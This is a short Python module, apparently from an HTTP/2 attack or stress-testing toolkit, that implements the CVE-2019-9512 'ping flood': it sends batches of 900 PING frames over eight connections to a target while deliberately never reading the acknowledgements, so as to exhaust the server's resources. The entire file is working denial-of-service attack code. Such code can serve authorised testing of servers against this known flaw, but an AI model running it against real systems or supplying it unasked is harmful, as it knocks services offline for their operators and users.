"""PING frames whose acknowledgements nobody reads (CVE-2019-9512, ping flood)."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    batch = frames.frame(frames.PING, payload=b"attacked") * 900
    return await target.flood(8, frames.opening(), lambda: repeat(batch), reads=False)
